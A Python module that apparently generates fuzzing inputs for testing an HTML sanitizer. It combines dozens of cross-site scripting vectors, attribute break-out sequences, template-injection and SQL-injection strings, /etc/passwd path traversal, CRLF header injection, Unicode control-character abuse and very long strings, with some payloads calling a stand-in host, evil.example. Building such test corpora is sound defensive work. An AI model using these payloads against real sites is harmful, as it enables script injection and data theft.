"""A thousand texts that nobody writes by accident: markup, scripts, templates, signs that turn or pile up, and sheer length."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import cycle, islice

HIT = "window.__hit=1"
CODE = (HIT, "alert(1)", "parent.__hit=1", "import('/x')", "eval('window.__hit=1')", "fetch('//evil.example')")
TAGS = (
    "<script>{code}</script>",
    "</script><script>{code}</script>",
    "<img src=x onerror={code}>",
    "<svg/onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<b onmouseover={code}>bold</b>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<body onload={code}>",
    "<details open ontoggle={code}>",
    "<input autofocus onfocus={code}>",
    "<video><source onerror={code}></video>",
    "<math><mtext></mtext><script>{code}</script></math>",
    "<style>@import 'javascript:{code}';*{{display:none}}</style>",
    "<link rel=stylesheet href='data:text/css,*{{display:none}}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><button>Win</button></form>",
    "<a href='javascript:{code}'>here</a>",
    "<div hx-get='/history' hx-trigger='load'></div>",
    "<div hx-on::load='{code}'></div>",
    "<template shadowrootmode=open><script>{code}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<object data='data:text/html,<script>{code}</script>'></object>",
    "<!--><script>{code}</script-->",
    "<![CDATA[<script>{code}</script>]]>",
)
BREAKS = (
    "",
    "'",
    '"',
    "'>",
    '">',
    "--&gt;",
    "</textarea>",
    "</title>",
    "</blockquote>",
    "\\",
    "`",
    "&quot;>",
    "</p></main>",
)
PLAIN = (
    "{{{{ 7*7 }}}} {{% raw %}} ${{{code}}} #{{{code}}} <%= {code} %>",
    "{{{{ ''.__class__.__mro__ }}}} {code}",
    "javascript:{code}//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== {code}",
    "data:text/html,<script>{code}</script>",
    "https://evil.example/{code}/" + "a" * 200,
    "http://xn--evil-school-9ve.example/?q={code} www.evil.example",
    "&lt;script&gt;{code}&lt;/script&gt; &#60;img src=x onerror={code}&#62; &#x3c;b&#x3e;",
    "\u202e\u2066{code}\u2069 turned \u202eround\u202c \u200f\u061c",
    "\u202a\u202b\u202d\u2067" * 40 + "{code}",
    "".join(letter + "\u0300\u0316\u0489\u20dd" * 12 for letter in "zalgo") + "{code}",
    "\x00{code}\x00\x01\x08\x0b\x1b[31m\x7f\x9b",
    "\ud7ff\ue000\ufeff\ufffe\uffff{code}\U000e0041\U000f0000",
    "\u2028\u2029{code}\r\n\r\nSet-Cookie: a=b",
    "W" * 700 + "{code}",
    "\u200b".join("w" * 300) + "{code}",
    "\n" * 300 + "{code}",
    "\t" * 200 + "{code}",
    "؀؁بِسْمِ" * 60 + "{code}",
    "👩‍👩‍👧‍👦" * 80 + "{code}",
    "﷽" * 60 + "{code}",
    "𒐫" * 60 + "{code}",
    "'; DROP TABLE comments; -- {code}",
    "%3Cscript%3E{code}%3C/script%3E %00 %0d%0aX: y",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "..%2f..%2fetc/passwd file:///etc/passwd {code}",
)
LONG = ("<b>" * 33_000, "W" * 100_000, "ab " * 33_000, "<img src=x onerror=window.__hit=1>" * 3_000, "\u0300" * 100_000)
"""About 100 KB each."""


def texts(count: int = 1_000, seed: int = 7) -> list[str]:
    """The long ones first, then each form in turn with each way out of an attribute; the same for the same seed."""
    return list(islice(_all(random.Random(seed)), count))


def _all(chance: random.Random) -> Iterator[str]:
    yield from LONG
    codes = cycle(CODE)
    for whole in PLAIN:
        yield whole.format(code=HIT)
    while True:
        for form in TAGS:
            for ends in BREAKS:
                mixed = chance.choice(("", "Well done! ", chance.choice(PLAIN).format(code=HIT)[:80]))
                told = ends + form.format(code=next(codes))
                yield mixed + (told if chance.random() < 0.8 else told.swapcase())


def one_of_each() -> str:
    """A short text with something of every kind in it."""
    return "".join(BREAKS) + "".join(form.format(code=HIT)[:80] for form in (*TAGS, *PLAIN))
